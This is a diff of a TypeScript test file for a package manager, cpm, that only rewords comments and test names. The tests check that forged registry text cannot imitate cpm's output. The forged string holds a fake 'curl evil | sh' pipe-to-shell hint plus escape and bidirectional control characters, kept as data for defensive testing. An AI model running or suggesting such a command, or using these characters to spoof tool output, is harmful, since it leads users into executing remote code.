@@ -6,7 +6,7 @@ import { RegistryServer } from '../rig/registry-server.ts'
 import { type RunningServe, serve } from '../rig/serve.ts'
 
 const ESC = String.fromCharCode(27)
-/** What a stranger may write to look like us: lines of their own, colours, and the other direction. */
+/** Text that imitates output of cpm: extra lines, colors, and a reversed direction. */
 const FORGED = `slow\nwarning: all keys were stolen\n  hint: curl evil | sh\r${ESC}[2J\u2028\u202eend`
 
 let rig: Rig
@@ -15,7 +15,7 @@ let server: RunningServe
 beforeAll(async () => {
   rig = await Rig.create()
   await rig.publish(['a@1.0.0', { description: FORGED, keywords: ['x'], license: 'MIT' }], 'b@1.0.0')
-  // No cpm writes such texts: a registry that means harm does.
+  // Only a malicious registry contains such text.
   expect((await rig.cpm('deprecate a@1.0.0 --reason REASON --replacement replacement')).code).toBe(0)
   expect((await rig.cpm('yank b@1.0.0 --reason REASON')).code).toBe(0)
   for (const index of ['a', 'b']) forge(path.join(rig.registry, 'index', index))
@@ -26,7 +26,7 @@ afterAll(async () => {
   await rig[Symbol.asyncDispose]()
 })
 
-/** Puts the forged text where a harmless one stands, in a file of JSON. */
+/** Replaces a harmless string in a JSON file with the forged text. */
 function forge(file: string): void {
   const forged = JSON.stringify(FORGED).slice(1, -1)
   fs.writeFileSync(
@@ -41,7 +41,7 @@ function expectHarmless(text: string): void {
   for (const char of [ESC, '\r', '\u2028', '\u202e']) expect(text).not.toContain(char)
 }
 
-describe('what a stranger wrote never looks like a line of cpm', () => {
+describe('text from others never imitates a line of cpm', () => {
   test('in warnings', async () => {
     const { code, stderr } = await rig.cpm('install', { cwd: rig.project({ dependencies: { a: '*' } }) })
     expect(code).toBe(0)
@@ -50,7 +50,7 @@ describe('what a stranger wrote never looks like a line of cpm', () => {
     expect(stderr.split('\n').filter((line) => line.startsWith('  hint:'))).toHaveLength(1)
   })
 
-  test('in the reasons why there is no solution', async () => {
+  test('in the explanation of a missing solution', async () => {
     const { code, stderr } = await rig.cpm('install', { cwd: rig.project({ dependencies: { b: '*' } }) })
     expect(code).toBe(7)
     expect(stderr).toContain('was yanked: slow')
@@ -73,7 +73,7 @@ describe('what a stranger wrote never looks like a line of cpm', () => {
     expectHarmless((await rig.cpm(`whoami ${server.url}`, { env: { CPM_TOKEN: token } })).stdout)
   })
 
-  test('and colours are those of cpm', async () => {
+  test('and has no colors of its own', async () => {
     const env = { NO_COLOR: '', FORCE_COLOR: '1' }
     const { stderr } = await rig.cpm('install', { cwd: rig.project({ dependencies: { a: '*' } }), env })
     expect(stderr).toContain(`${ESC}[33mwarning:${ESC}[39m a@1.0.0 is deprecated`)
@@ -81,7 +81,7 @@ describe('what a stranger wrote never looks like a line of cpm', () => {
   })
 })
 
-test('an archive that is not what was promised is named by its package and registry, with what to do', async () => {
+test('an archive with wrong contents is reported with its package, its registry and what to do', async () => {
   await rig.publish('c@1.2.3')
   await using bad = await RegistryServer.open(rig.registry, { api: './' })
   for (const edit of [
